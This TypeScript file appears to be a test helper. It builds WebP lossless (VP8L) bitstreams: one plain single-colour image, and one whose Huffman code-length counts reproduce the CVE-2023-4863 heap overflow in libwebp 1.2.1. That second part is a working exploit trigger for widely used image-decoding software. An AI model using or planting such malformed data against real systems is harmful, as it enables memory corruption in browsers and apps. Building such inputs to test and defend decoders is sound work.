import { webp } from "./sample-headers.ts";

/** VP8L data (RFC 9649 §3), written bit by bit. */
class BitWriter {
  readonly #bits: number[] = [];

  /** The lowest bit first, as all numbers are. */
  writeNumber(value: number, count: number): void {
    for (let bit = 0; bit < count; bit++) this.#bits.push((value >> bit) & 1);
  }

  /** The highest bit first, as a prefix code is read. */
  writeCode(code: number, count: number): void {
    for (let bit = count - 1; bit >= 0; bit--) this.#bits.push((code >> bit) & 1);
  }

  toBytes(): Uint8Array {
    const bytes = new Uint8Array(Math.ceil(this.#bits.length / 8));
    for (const [at, bit] of this.#bits.entries()) bytes[at >> 3] = (bytes[at >> 3] ?? 0) | (bit << (at & 7));
    return bytes;
  }
}

/** Begins a square picture: no alpha, version 0, no transform, no colour cache, one group of prefix codes. */
function beginPicture(side: number): BitWriter {
  const writer = new BitWriter();
  writer.writeNumber(0x2f, 8);
  writer.writeNumber(side - 1, 14);
  writer.writeNumber(side - 1, 14);
  for (const count of [1, 3, 1, 1, 1]) writer.writeNumber(0, count);
  return writer;
}

/** A WebP of one colour: each of its five prefix codes has a single symbol, and so no bits (§3.7.2). */
export function plainLossless(side: number): Uint8Array {
  const writer = beginPicture(side);
  for (const value of [40, 80, 120, 255]) {
    // A simple code, of one symbol, of eight bits.
    for (const one of [1, 0, 1]) writer.writeNumber(one, 1);
    writer.writeNumber(value, 8);
  }
  for (const one of [1, 0, 0, 0]) writer.writeNumber(one, 1);
  return webp(["VP8L", writer.toBytes()]);
}

/** The most entries that libwebp 1.2.1 expects in the tables of all five codes, each 4 bytes long. */
export const TABLES_BYTES = (654 + 3 * 630 + 410) * 4;

/** How many symbols of each alphabet have codes of 0, 1, 2 … 15 bits. */
const green = [0, 1, 0, 1, 1, 0, 0, 0, 0, 129, 21, 57, 33, 32, 3, 2];
const literal = [0, 1, 1, 0, 0, 0, 0, 0, 0, 71, 73, 57, 49, 1, 1, 2];
const distance = [0, 0, 0, 0, 1, 0, 0, 0, 0, 19, 9, 1, 1, 0, 1, 8];

/**
 * The data of a VP8L chunk as attacks with CVE-2023-4863 have it. Four complete codes have tables as large as can be: 652
 * entries and three times 630. The fifth code is incomplete, and would have 538 instead of at most 410.
 */
export function overflowingLossless(): Uint8Array {
  const writer = beginPicture(1);
  for (const counts of [green, literal, literal, literal, distance]) {
    // A normal code (§3.7.2.1.2). Its lengths have codes themselves: 19 of them, with 4 bits for each of 0–15.
    writer.writeNumber(0, 1);
    writer.writeNumber(15, 4);
    for (const symbol of [17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15]) {
      writer.writeNumber(symbol < 16 ? 4 : 0, 3);
    }
    // Lengths of all symbols follow.
    writer.writeNumber(0, 1);
    for (const [length, count] of counts.entries()) {
      for (let symbol = 0; symbol < count; symbol++) writer.writeCode(length, 4);
    }
  }
  // Pixels, so that the data does not end with the codes.
  for (let byte = 0; byte < 64; byte++) writer.writeNumber(0, 8);
  return writer.toBytes();
}
